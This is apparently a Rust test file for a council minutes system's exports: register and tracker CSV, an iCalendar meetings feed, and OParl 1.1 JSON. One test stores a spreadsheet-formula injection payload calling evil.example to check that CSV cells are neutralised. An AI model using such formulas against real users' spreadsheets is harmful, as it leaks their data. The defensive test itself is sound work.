//! Exports as their readers see them: the register CSV through a CSV parser, the calendar
//! through an iCalendar parser, the OParl-shaped JSON against the OParl 1.1 fields.

mod common;

use common::*;
use minutes_core::input::*;
use minutes_core::*;

fn with_awkward_text() -> (
    tempfile::TempDir,
    minutes_store::Store,
    minutes_store::demo::DemoIds,
    String,
) {
    let (dir, mut store, ids) = demo_store();
    let m = store
        .add_meeting(&NewMeeting {
            body_id: ids.scrutiny,
            kind: MeetingKind::Ordinary,
            date: d(2015, 7, 6),
            start_time: Some("17:30".into()),
            end_time: Some("19:00".into()),
            venue: "Siambr y Cyngor; Civic Offices, Holton Road, Barry – the long way round past the ŵyn in the fields by the coast".into(),
            mode: MeetingMode::Hybrid,
            joining_details: "Join on Teams: https://teams.example/abc".into(),
        })
        .unwrap();
    store
        .add_agenda_item(
            m.id,
            &NewAgendaItem::report("Ysgolion, \"cynradd\" a'r Gymraeg"),
        )
        .unwrap();
    let min = store
        .add_minute(m.id, None, "Welsh-medium education")
        .unwrap();
    let text = "the \"Cymraeg 2050\" targets, as amended, be endorsed;\nand a report on ysgolion cynradd follow".to_string();
    store
        .add_resolution(
            min.id,
            &NewResolution {
                keyword: None,
                text: text.clone(),
                reason: "To meet the duty, in full.".into(),
                conditional_on: None,
                vote: String::new(),
                reason_not_needed: false,
            },
        )
        .unwrap();
    (dir, store, ids, text)
}

#[test]
fn register_csv_round_trips_through_a_csv_parser() {
    let (_dir, store, ids, text) = with_awkward_text();
    let q = RegisterQuery {
        body_id: Some(ids.scrutiny),
        today: Some(d(2015, 3, 7)),
        ..Default::default()
    };
    let csv_text = store.register_csv(&q).unwrap();
    assert!(csv_text.ends_with("\r\n") && csv_text.contains(",\"the \"\"Cymraeg 2050\"\""));
    let mut reader = csv::ReaderBuilder::new().from_reader(csv_text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, minutes_store::export::REGISTER_CSV_HEADER);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let all = store.conn().query_row(
        "SELECT count(*) FROM resolution r JOIN meeting m ON m.id = r.meeting_id WHERE m.body_id = ?1",
        [ids.scrutiny.to_string()],
        |r| r.get::<_, i64>(0),
    ).unwrap();
    assert_eq!(
        rows.len() as i64,
        all,
        "every resolution of the body, no limit"
    );
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let ours = rows
        .iter()
        .find(|r| r[col("decision_text")] == text)
        .expect("the awkward text comes back exactly");
    assert_eq!(&ours[col("reason")], "To meet the duty, in full.");
    assert_eq!(&ours[col("meeting_date")], "2015-07-06");
    let referred = rows
        .iter()
        .find(|r| !r[col("referral_to")].is_empty())
        .unwrap();
    assert_eq!(
        (
            &referred[col("referral_to")],
            &referred[col("referral_status")],
            &referred[col("overdue")]
        ),
        ("Cabinet", "issued", "TRUE")
    );
}

#[test]
fn meetings_calendar_parses_and_keeps_the_rules_of_rfc_5545() {
    let (_dir, store, ids, _) = with_awkward_text();
    let stamp = chrono::DateTime::parse_from_rfc3339("2015-06-01T09:30:00Z")
        .unwrap()
        .with_timezone(&chrono::Utc);
    let ics = store.meetings_ics(ids.scrutiny, stamp).unwrap();
    for line in ics.split("\r\n") {
        assert!(line.len() <= 75, "folded at 75 octets: {line}");
    }
    assert!(
        !ics.replace("\r\n", "").contains('\n'),
        "every line ends CRLF"
    );
    let unfolded = icalendar::parser::unfold(&ics);
    let cal = icalendar::parser::read_calendar(&unfolded).unwrap();
    let events: Vec<_> = cal
        .components
        .iter()
        .filter(|c| c.name == "VEVENT")
        .collect();
    let meetings = store
        .list_meetings()
        .unwrap()
        .into_iter()
        .filter(|m| m.body_id == ids.scrutiny)
        .count();
    assert_eq!(events.len(), meetings);
    let prop = |c: &icalendar::parser::Component, name: &str| {
        c.properties
            .iter()
            .find(|p| p.name == name)
            .map(|p| p.val.as_str().to_string())
    };
    for e in &events {
        assert!(prop(e, "UID").unwrap().ends_with("@cofnod"));
        assert_eq!(prop(e, "DTSTAMP").unwrap(), "20150601T093000Z");
    }
    let july = events
        .iter()
        .find(|e| prop(e, "DTSTART").as_deref() == Some("20150706T173000"))
        .expect("July meeting");
    let dtstart = july
        .properties
        .iter()
        .find(|p| p.name == "DTSTART")
        .unwrap();
    assert!(dtstart
        .params
        .iter()
        .any(|p| p.key == "TZID" && p.val.as_ref().map(|v| v.as_str()) == Some("Europe/London")));
    assert_eq!(prop(july, "DTEND").unwrap(), "20150706T190000");
    assert_eq!(
        prop(july, "LOCATION").unwrap(),
        "Siambr y Cyngor; Civic Offices, Holton Road, Barry – the long way round past the ŵyn in the fields by the coast",
        "escaped in the file, the same words when read"
    );
    assert!(unfolded.contains("LOCATION:Siambr y Cyngor\\; Civic Offices\\, Holton Road"));
    assert!(prop(july, "DESCRIPTION")
        .unwrap()
        .contains("1. Ysgolion, \"cynradd\" a'r Gymraeg"));
    assert_eq!(
        prop(july, "SUMMARY").unwrap(),
        "Scrutiny Committee (Social Care and Health)"
    );
}

/// Properties of the OParl 1.1 schemas (oparl-1.1-schema/*.json) for the objects exported.
const OPARL: &[(&str, &[&str], &[&str])] = &[
    (
        "Meeting",
        &["id", "type"],
        &[
            "id",
            "type",
            "name",
            "meetingState",
            "cancelled",
            "start",
            "end",
            "location",
            "organization",
            "participant",
            "invitation",
            "resultsProtocol",
            "verbatimProtocol",
            "auxiliaryFile",
            "agendaItem",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "AgendaItem",
        &["id", "type", "order"],
        &[
            "id",
            "type",
            "meeting",
            "number",
            "order",
            "name",
            "public",
            "consultation",
            "result",
            "resolutionText",
            "resolutionFile",
            "auxiliaryFile",
            "start",
            "end",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Organization",
        &["id", "type"],
        &[
            "id",
            "type",
            "body",
            "name",
            "membership",
            "meeting",
            "consultation",
            "shortName",
            "post",
            "subOrganizationOf",
            "organizationType",
            "classification",
            "startDate",
            "endDate",
            "website",
            "location",
            "externalBody",
            "memberCount",
            "votingMemberCount",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Person",
        &["id", "type"],
        &[
            "id",
            "type",
            "body",
            "name",
            "familyName",
            "givenName",
            "formOfAddress",
            "affix",
            "title",
            "gender",
            "phone",
            "email",
            "location",
            "locationObject",
            "status",
            "membership",
            "image",
            "life",
            "lifeSource",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Membership",
        &["id", "type"],
        &[
            "id",
            "type",
            "person",
            "organization",
            "role",
            "votingRight",
            "startDate",
            "endDate",
            "onBehalfOf",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
    (
        "Paper",
        &["id", "type"],
        &[
            "id",
            "type",
            "body",
            "name",
            "reference",
            "date",
            "paperType",
            "relatedPaper",
            "superordinatedPaper",
            "subordinatedPaper",
            "mainFile",
            "auxiliaryFile",
            "location",
            "originatorPerson",
            "underDirectionOf",
            "originatorOrganization",
            "consultation",
            "license",
            "keyword",
            "created",
            "modified",
            "web",
            "deleted",
        ],
    ),
];

#[test]
fn oparl_export_refuses_an_address_that_is_not_a_web_address() {
    let (_dir, store, _ids, _) = with_awkward_text();
    for bad in [
        "",
        "   ",
        "democracy.example.gov.uk",
        "https://",
        "ftp://x",
        "https://a b",
    ] {
        let err = store.oparl_export(bad, None).unwrap_err().to_string();
        assert!(
            err.contains("Published at") && err.contains("https://"),
            "{bad:?}: {err}"
        );
    }
    assert!(store.oparl_export(" http://localhost/oparl ", None).is_ok());
}

#[test]
fn oparl_export_has_the_required_fields_and_only_oparl_or_cofnod_properties() {
    let (_dir, store, _ids, _) = with_awkward_text();
    let v = store
        .oparl_export("https://democracy.example.gov.uk/oparl/v1.1/", None)
        .unwrap();
    for (kind, list) in [
        ("Meeting", "meeting"),
        ("AgendaItem", "agendaItem"),
        ("Organization", "organization"),
        ("Person", "person"),
        ("Membership", "membership"),
        ("Paper", "paper"),
    ] {
        let (_, required, props) = OPARL.iter().find(|(k, _, _)| *k == kind).unwrap();
        let objects = v[list].as_array().unwrap();
        assert!(!objects.is_empty(), "{kind} exported");
        for o in objects {
            let o = o.as_object().unwrap();
            for r in *required {
                assert!(o.contains_key(*r), "{kind} lacks {r}");
            }
            assert_eq!(o["type"], format!("https://schema.oparl.org/1.1/{kind}"));
            assert!(o["id"]
                .as_str()
                .unwrap()
                .starts_with("https://democracy.example.gov.uk/oparl/v1.1/"));
            for (k, val) in o {
                assert!(
                    props.contains(&k.as_str()) || k.starts_with("cofnod:"),
                    "{kind}.{k} is not OParl 1.1"
                );
                assert!(
                    !val.is_null() && val.as_str() != Some(""),
                    "{kind}.{k} is empty: omit it"
                );
            }
            if kind == "AgendaItem" {
                assert!(o["order"].is_u64());
            }
            if let Some(start) = o.get("start").and_then(|s| s.as_str()) {
                assert!(
                    start.len() == 25 && (start.ends_with("+01:00") || start.ends_with("+00:00")),
                    "{start}"
                );
            }
        }
    }
    let july = v["meeting"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["start"] == "2015-07-06T17:30:00+01:00");
    assert!(july.is_some(), "summer time is +01:00");
    let jan = v["meeting"].as_array().unwrap().iter().any(|m| {
        m["start"]
            .as_str()
            .is_some_and(|s| s.starts_with("2015-01-05T") && s.ends_with("+00:00"))
    });
    assert!(jan, "winter is +00:00");
    assert_eq!(v["paper"][0]["cofnod:referral"]["status"], "issued");
}

#[test]
fn tracker_lists_the_bodys_recommendations_of_the_period_with_their_status() {
    let (_dir, mut store, ids) = demo_store();
    let rows = store
        .tracker(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
        .unwrap();
    assert_eq!(rows.len(), 1);
    let text = store
        .tracker_csv(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
        .unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, minutes_store::export::TRACKER_CSV_HEADER);
    let row = reader.records().next().unwrap().unwrap();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert!(row[col("recommendation")].contains("be referred to Cabinet"));
    assert_eq!(
        (
            &row[col("referred_to")],
            &row[col("status")],
            &row[col("overdue")]
        ),
        ("Cabinet", "issued", "TRUE")
    );
    assert_eq!(&row[col("response_due")], "2015-03-06");
    // The quarter before it was sent holds nothing.
    assert!(store
        .tracker(ids.scrutiny, d(2014, 7, 1), d(2014, 9, 30), d(2015, 7, 1))
        .unwrap()
        .is_empty());
    // Still open, it is carried forward into the next quarter's tracker...
    let next = store
        .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 6, 30), d(2015, 7, 1))
        .unwrap();
    assert_eq!(next.len(), 1);
    assert_eq!(next[0].referral.id, ids.referral);
    // ...and, once closed, into the quarter it was closed in, and no further.
    store
        .advance_referral(
            ids.referral,
            &ReferralStep::Consider {
                outcome: ReferralOutcome::Accepted,
                response_text: "Cabinet noted the findings.".into(),
                meeting_id: None,
                minute_id: None,
            },
        )
        .unwrap();
    store
        .advance_referral(ids.referral, &ReferralStep::Close { on: d(2015, 5, 11) })
        .unwrap();
    let closing = store
        .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 6, 30), d(2015, 7, 1))
        .unwrap();
    assert_eq!(closing.len(), 1);
    assert!(store
        .tracker(ids.scrutiny, d(2015, 7, 1), d(2015, 9, 30), d(2015, 10, 1))
        .unwrap()
        .is_empty());
    // A period that ends before it starts is refused.
    assert!(store
        .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 1, 1), d(2015, 7, 1))
        .is_err());
}

/// A referral response typed as a spreadsheet formula reaches the tracker CSV as words: the
/// cell starts with `'` (OWASP's rule), so a spreadsheet never runs it; ordinary cells are as
/// typed.
#[test]
fn tracker_csv_cells_a_spreadsheet_would_run_are_neutralised() {
    let (_dir, mut store, ids) = demo_store();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    store
        .advance_referral(
            ids.referral,
            &ReferralStep::Consider {
                outcome: ReferralOutcome::Accepted,
                response_text: formula.into(),
                meeting_id: None,
                minute_id: None,
            },
        )
        .unwrap();
    let text = store
        .tracker_csv(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
        .unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let row = reader.records().next().unwrap().unwrap();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(&row[col("response")], format!("'{formula}"));
    assert_eq!(&row[col("referred_to")], "Cabinet");
    for cell in row.iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
    for (raw, shown) in [
        ("+44 1446 700111", "'+44 1446 700111"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Cabinet = yes", "Cabinet = yes"),
        ("", ""),
    ] {
        assert_eq!(minutes_store::export::csv_cell(raw), shown);
    }
}

/// The calendar written by the `icalendar` crate: the same file for the same stamp (no
/// random ids, no clock), one Europe/London VTIMEZONE holding only what RFC 5545 allows there
/// (no UID or DTSTAMP), and no bare CR anywhere.
#[test]
fn meetings_calendar_is_the_same_each_time_with_one_clean_time_zone() {
    let (_dir, store, ids, _) = with_awkward_text();
    let stamp = chrono::DateTime::parse_from_rfc3339("2015-06-01T09:30:00Z")
        .unwrap()
        .with_timezone(&chrono::Utc);
    let ics = store.meetings_ics(ids.scrutiny, stamp).unwrap();
    assert_eq!(store.meetings_ics(ids.scrutiny, stamp).unwrap(), ics);
    let unfolded = icalendar::parser::unfold(&ics);
    let cal = icalendar::parser::read_calendar(&unfolded).unwrap();
    let zones: Vec<_> = cal
        .components
        .iter()
        .filter(|c| c.name == "VTIMEZONE")
        .collect();
    assert_eq!(zones.len(), 1);
    let names = |c: &icalendar::parser::Component| {
        c.properties
            .iter()
            .map(|p| p.name.as_str().to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(zones[0]), ["TZID"]);
    for part in &zones[0].components {
        let n = names(part);
        assert!(
            !n.iter().any(|k| k == "UID" || k == "DTSTAMP"),
            "{}: {n:?}",
            part.name
        );
    }
    assert!(ics.starts_with("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Cofnod//"));
    assert!(ics.ends_with("END:VCALENDAR\r\n"));
    assert!(!ics.replace("\r\n", "").contains('\r'), "no bare CR");
}
